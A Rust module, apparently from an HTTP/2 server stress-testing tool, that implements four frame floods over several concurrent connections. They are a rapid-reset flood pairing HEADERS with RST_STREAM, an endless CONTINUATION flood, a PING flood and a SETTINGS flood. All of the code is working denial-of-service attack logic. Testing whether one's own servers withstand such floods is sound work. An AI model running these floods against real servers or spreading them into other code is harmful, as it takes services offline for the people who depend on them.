//! Floods of HTTP/2 frames.

use std::sync::Arc;

use super::frames::{CONTINUATION, END_HEADERS, HEADERS, PING, RST_STREAM, Raw, SETTINGS, frame, request_headers};
use super::offender::{Offender, at_once};

pub async fn resets(offender: Arc<Offender>) {
    at_once(&offender, CONNECTIONS, |offender, _| async move {
        let Some(mut raw) = Raw::http2(&offender).await else { return };
        raw.drain_input();
        let headers = request_headers();
        let mut stream = 1;
        loop {
            let mut frames = Vec::new();
            for _ in 0..BATCH {
                frames.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                stream = (stream + 2) & 0x7fff_ffff;
                offender.did.opened_stream();
            }
            if !raw.write(&frames, 2 * BATCH).await {
                return;
            }
        }
    })
    .await;
}

pub async fn continuations(offender: Arc<Offender>) {
    at_once(&offender, CONNECTIONS, |offender, _| async move {
        let Some(mut raw) = Raw::http2(&offender).await else { return };
        raw.drain_input();
        offender.did.opened_stream();
        let mut open = raw.write(&frame(HEADERS, 0, 1, &request_headers()), 1).await;
        // Headers with names of one letter, so that none exceeds a limit for single headers.
        let some: Vec<u8> = std::iter::repeat_n([0x00, 1, b'a', 1, b'b'], 3000).flatten().collect();
        let more = frame(CONTINUATION, 0, 1, &some);
        while open {
            open = raw.write(&more, 1).await;
        }
    })
    .await;
}

pub async fn pings(offender: Arc<Offender>) {
    flood(offender, frame(PING, 0, 0, &[7; 8])).await;
}

pub async fn settings(offender: Arc<Offender>) {
    // SETTINGS_INITIAL_WINDOW_SIZE with its default value. The server has to apply it to all streams each time.
    flood(offender, frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])).await;
}

/// Sends one frame as often as possible, and reads no answer.
async fn flood(offender: Arc<Offender>, frame: Vec<u8>) {
    let frames = frame.repeat(BATCH);
    at_once(&offender, CONNECTIONS, move |offender, _| {
        let frames = frames.clone();
        async move {
            let Some(mut raw) = Raw::http2(&offender).await else { return };
            while raw.write(&frames, BATCH).await {}
        }
    })
    .await;
}

const CONNECTIONS: usize = 4;
/// How many frames are sent in one write.
const BATCH: usize = 100;
const CANCEL: [u8; 4] = 8u32.to_be_bytes();
